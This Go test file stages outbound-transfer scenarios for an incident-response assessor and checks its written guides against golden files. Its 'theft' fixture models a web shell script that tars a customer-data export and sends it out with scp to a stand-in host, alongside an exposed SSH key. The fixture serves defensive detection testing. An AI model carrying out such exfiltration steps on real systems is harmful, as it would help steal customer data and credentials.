package playbooks

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"interdict/detect"
	"interdict/respond"
)

var update = flag.Bool("update", false, "write the golden guides anew")

var systemd = process1(1, 0, "/usr/lib/systemd/systemd", "/sbin/init", "root", 90*24*time.Hour)

// theft: a web shell's script in /dev/shm sends an archive of customer data.
func theft() (*Assessor, *detect.Finding) {
	fpm := process1(911, 1, "/usr/sbin/php-fpm8.2", "php-fpm: master process", "root", 60*24*time.Hour)
	pool := process1(912, 911, "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data", 60*24*time.Hour)
	sh := process1(4102, 912, "/usr/bin/dash", "sh -c /dev/shm/.x.sh", "www-data", 20*time.Second)
	x := process1(4110, 4102, "/usr/bin/bash", "/bin/bash /dev/shm/.x.sh", "www-data", 19*time.Second)
	tool := process1(4121, 4110, "/usr/bin/scp", "scp -q /tmp/.c/customers.tar.gz deploy@203.0.113.9:in/", "www-data", 0)
	ssh := process1(4122, 4121, "/usr/bin/ssh", "ssh -x deploy@203.0.113.9", "www-data", 0)
	f := found(detect.Transfer{
		Direction: detect.Out, Tool: tool, Ancestors: []detect.Process{x, sh, pool, fpm, systemd}, Members: []detect.Process{tool, ssh},
		Peers: []detect.Peer{{Addr: addr("203.0.113.9"), Port: 22, Sent: 48_200_000, Received: 9000, First: night.Add(time.Second)}},
		Files: []detect.File{{Path: "/srv/app/export/customers.csv", Size: 410_000_000, Sensitive: "customer data"},
			{Path: "/tmp/.c/customers.tar.gz", Size: 162_000_000, Sensitive: "archive"},
			{Path: "/var/www/.ssh/id_ed25519", Size: 400, Sensitive: detect.LoginKey, At: night}},
		Sent: 48_200_000, Received: 9000, Rate: 3_100_000, Live: true, Started: night,
	})
	m := &machine{packages: debian, logins: []respond.Login{{User: "bob", Line: "pts/0", From: "10.0.9.5", In: night.Add(-12 * time.Hour), Out: night.Add(-9*time.Hour - 8*time.Minute)}},
		files: map[string]respond.Origin{"/dev/shm/.x.sh": {Deleted: true, UID: 33, Owner: "www-data", Mode: 0o755, Changed: night.Add(-35 * time.Second), Writable: "/dev/shm is open to everybody", SHA256: strings.Repeat("9f2c", 16)}}}
	h := past{
		"baseline": watchedFor(14*24*time.Hour, 812_345),
		"command": rows(ran("scp -q /srv/out/a.tgz deploy@10.0.4.12:in/ -l 8000", 212, 13, 1, "db-3").under("/usr/bin/bash", "/bin/bash /usr/local/bin/nightly"),
			ran("scp -p a b:", 40, 10, 2, "web-7").under("/usr/bin/bash", "/bin/bash /usr/local/bin/nightly").here(1, 0)),
		"around": rows(ranAround("tar", "tar czf /tmp/.c/customers.tar.gz /srv/app/export", "e4110", -18*time.Second),
			ranAround("tar", "tar cf /srv/other.tar /srv/other", "e900", -15*time.Second)),
		"host":     rows(row{"agent.id": "5c1e", "host.name": "web-1", "host.os.type": "linux", "host.os.full": "Debian GNU/Linux 12", "host.os.kernel": "6.1.0-18", "host.architecture": "x86_64", "events": 8200}),
		"expected": rows(went("10.0.4.12", 9, 13, 1, 50_000_000)),
		"left":     rows(went("10.0.4.12", 3201, 13, 1, 50_000_000)),
	}
	a := assessor(h, m)
	a.Alerts = func(detect.Host) []*detect.Finding {
		return []*detect.Finding{{Alert: detect.Alert{ID: "o1", RuleName: "Web server started a shell", Severity: "medium", First: night.Add(-3 * time.Minute), Last: night, Process: sh}}}
	}
	return a, f
}

// backup: rsync by a timer, from a packaged script, to where it always goes.
func backup() (*Assessor, *detect.Finding) {
	script := process1(700, 1, "/usr/bin/bash", "/bin/bash /usr/sbin/nightly-backup", "root", 2*time.Second)
	tool := process1(705, 700, "/usr/bin/rsync", "rsync -a /srv/data backup@10.0.4.12:/vol/web-1", "root", 0)
	ssh := process1(706, 705, "/usr/bin/ssh", "ssh backup@10.0.4.12 rsync --server", "root", 0)
	tool.Cgroup, script.Cgroup = "/system.slice/nightly-backup.service", "/system.slice/nightly-backup.service"
	f := found(detect.Transfer{
		Direction: detect.Out, Tool: tool, Ancestors: []detect.Process{script, systemd}, Members: []detect.Process{tool, ssh},
		Peers: []detect.Peer{{Addr: addr("10.0.4.12"), Port: 22, Sent: 1_100_000_000, First: night.Add(time.Second)}},
		Files: []detect.File{{Path: "/srv/data/a.txt", Size: 1_100_000_000}}, Sent: 1_100_000_000, Live: true, Started: night,
	})
	packages := map[string]string{"/usr/sbin/nightly-backup": "nightly-backup"}
	for k, v := range debian {
		packages[k] = v
	}
	m := &machine{packages: packages, schedules: []respond.Schedule{{Source: "systemd timer nightly-backup.timer", Command: "nightly-backup.service", Last: night.Add(-2 * time.Second), Next: night.Add(24 * time.Hour)}}}
	command := "rsync -a /srv/data backup@10.0.4.12:/vol/web-1"
	h := past{
		"baseline": watchedFor(14*24*time.Hour, 700_000),
		"command":  rows(ran(command, 13, 13, 1, "web-1").under("/usr/bin/bash", "/bin/bash /usr/sbin/nightly-backup").here(3, 3, "2026-03-03", "2026-03-02", "2026-03-01")),
		"host":     rows(row{"agent.id": "5c1e", "host.name": "web-1", "host.os.type": "linux", "host.os.kernel": "6.1.0-18", "host.architecture": "x86_64", "events": 8200}),
		"expected": rows(went("10.0.4.12", 13, 13, 1, 1_050_000_000)),
		"left":     rows(went("10.0.4.12", 26, 13, 1, 1_050_000_000)),
	}
	return assessor(h, m), f
}

// copying: an administrator at a terminal copies one file to a new place.
func copying() (*Assessor, *detect.Finding) {
	sshd := process1(600, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", "root", 60*24*time.Hour)
	session := process1(3000, 600, "/usr/sbin/sshd", "sshd: bob [priv]", "root", time.Hour)
	own := process1(3010, 3000, "/usr/sbin/sshd", "sshd: bob@pts/0", "bob", time.Hour)
	shell := process1(3011, 3010, "/usr/bin/bash", "-bash", "bob", time.Hour)
	tool := process1(3100, 3011, "/usr/bin/scp", "scp notes.txt bob@198.51.100.4:", "bob", 0)
	for _, p := range []*detect.Process{&own, &shell, &tool} {
		p.LoginUID, p.Session = 1000, 7
	}
	shell.Interactive, tool.Interactive = true, true
	tool.Ended, tool.ExitCode = night.Add(3*time.Second), 0
	f := found(detect.Transfer{
		Direction: detect.Out, Tool: tool, Ancestors: []detect.Process{shell, own, session, sshd, systemd}, Members: []detect.Process{tool},
		Peers: []detect.Peer{{Addr: addr("198.51.100.4"), Port: 22, Sent: 12_000, First: night.Add(time.Second)}},
		Files: []detect.File{{Path: "/home/bob/notes.txt", Size: 9000}}, Sent: 12_000, Started: night, Ended: night.Add(3 * time.Second),
	})
	m := &machine{packages: debian, logins: []respond.Login{{User: "bob", Line: "pts/0", From: "10.0.9.5", In: night.Add(-time.Hour)}}}
	h := past{
		"baseline": watchedFor(14*24*time.Hour, 700_000),
		"command":  rows(ran("scp report.txt bob@10.0.4.12:", 31, 13, 1, "web-1").under("/usr/bin/bash", "-bash")),
		"left":     rows(went("10.0.4.12", 3201, 13, 1, 50_000)),
		"expected": rows(went("10.0.4.12", 31, 13, 1, 50_000)),
	}
	return assessor(h, m), f
}

// pulled: somebody fetches over sftp with bob's key.
func pulled() (*Assessor, *detect.Finding) {
	sshd := process1(600, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", "root", 60*24*time.Hour)
	session := process1(5000, 600, "/usr/sbin/sshd", "sshd: bob [priv]", "root", 2*time.Second)
	own := process1(5010, 5000, "/usr/sbin/sshd", "sshd: bob@notty", "bob", time.Second)
	tool := process1(5011, 5010, "/usr/lib/openssh/sftp-server", "/usr/lib/openssh/sftp-server", "bob", 0)
	for _, p := range []*detect.Process{&own, &tool} {
		p.LoginUID, p.Session = 1000, 9
	}
	f := found(detect.Transfer{
		Direction: detect.Pulled, Tool: tool, Ancestors: []detect.Process{own, session, sshd, systemd}, Members: []detect.Process{tool, own, session},
		Peers: []detect.Peer{{Addr: addr("10.0.9.5"), Port: 50022, Inbound: true, Sent: 310_000_000, Received: 80_000, First: night.Add(-2 * time.Second)}},
		Files: []detect.File{{Path: "/srv/db/dump.sql", Size: 300_000_000, Sensitive: "database"}}, Sent: 310_000_000, Live: true, Started: night,
	})
	h := past{
		"baseline": watchedFor(14*24*time.Hour, 700_000),
		"command":  rows(ran("/usr/lib/openssh/sftp-server", 90, 13, 1, "web-1", "web-7").under("/usr/sbin/sshd", "sshd: ann@notty")),
		"left":     rows(went("10.0.4.12", 3201, 13, 1, 50_000)),
		"expected": rows(went("10.0.4.12", 31, 13, 1, 50_000)),
	}
	return assessor(h, &machine{packages: debian}), f
}

// minute: the console was started a minute ago and can look at nothing.
func minute() (*Assessor, *detect.Finding) {
	tool := process1(900, 880, "/usr/bin/scp", "scp a.txt 10.0.0.9:", "bob", 0)
	f := found(detect.Transfer{Direction: detect.Out, Tool: tool, Members: []detect.Process{tool}, Live: true, Started: night,
		Unseen: []string{"the parent had ended before it could be read"}})
	a := assessor(past{"baseline": watchedFor(time.Minute, 12)}, nil)
	a.Watching = night.Add(-time.Minute)
	return a, f
}

func TestStagedFindingsAreAnsweredAsWrittenDown(t *testing.T) {
	for name, stage := range map[string]func() (*Assessor, *detect.Finding){"theft": theft, "backup": backup, "copying": copying, "pulled": pulled, "minute": minute} {
		t.Run(name, func(t *testing.T) {
			a, f := stage()
			got := show(f, assess(t, a, f))
			file := filepath.Join("testdata", name+".golden")
			if *update {
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("(-want +got; -update writes it anew)\n%s", diff)
			}
		})
	}
}

// show writes a guide as text, without what depends on the clock of the test.
func show(f *detect.Finding, g *Guide) string {
	var b strings.Builder
	sending := ""
	if g.Verdict.Sending {
		sending = ", STILL SENDING"
	}
	fmt.Fprintf(&b, "%s%s: %d against, %d for, %d open\n", g.Verdict.Word, sending, len(g.Verdict.Against), len(g.Verdict.For), len(g.Verdict.Open))
	for _, part := range []struct {
		name string
		all  []string
	}{{"against", g.Verdict.Against}, {"for", g.Verdict.For}, {"open", g.Verdict.Open}, {"blind", append(f.Unseen(), g.Blind...)}, {"stop", []string{g.Stop}}} {
		for _, s := range part.all {
			fmt.Fprintf(&b, "  %-8s%s\n", part.name, s)
		}
	}
	for _, a := range g.Answers {
		fmt.Fprintf(&b, "\n%-5s%d %s: %s\n", a.State, a.Number, a.Question, a.Why)
		for _, l := range a.Evidence {
			fmt.Fprintf(&b, "       %s: %s\n", l.Label, l.Text)
		}
	}
	return b.String()
}
